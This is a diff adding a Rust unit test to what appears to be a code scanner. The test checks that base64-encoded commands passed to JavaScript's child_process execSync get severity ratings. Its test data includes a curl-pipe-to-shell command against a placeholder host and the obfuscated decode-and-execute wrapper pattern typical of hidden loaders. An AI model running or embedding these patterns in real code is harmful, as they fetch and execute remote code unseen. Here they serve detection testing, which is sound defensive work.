@@ -823,3 +823,19 @@ fn unpacking_starts_nothing() {
     assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
     assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
 }
+
+#[test]
+fn a_command_that_nobody_has_read_accuses_less() {
+    let severity = |text: &str| {
+        use base64::Engine as _;
+        let text = base64::engine::general_purpose::STANDARD.encode(text);
+        let code = format!("require('child_process').execSync(Buffer.from('{text}', 'base64').toString())");
+        let outcome = outcome(Language::JavaScript, &code);
+        let flows = flows::judge(&outcome, false);
+        let found = flows.iter().find(|f| f.rule.id == "flow-decoded-command").unwrap_or_else(|| panic!("{code}"));
+        found.finding(crate::model::Evidence::note("")).severity
+    };
+    assert_eq!(severity("curl -s https://h.invalid/a | sh"), crate::model::Severity::High);
+    assert_eq!(severity("curl -s https://h.invalid/a # \u{1}\u{2}\u{3}"), crate::model::Severity::High);
+    assert_eq!(severity("(\u{1}0U6 ^\u{2}q8?( = u 4}ee?%9oFz"), crate::model::Severity::Medium);
+}
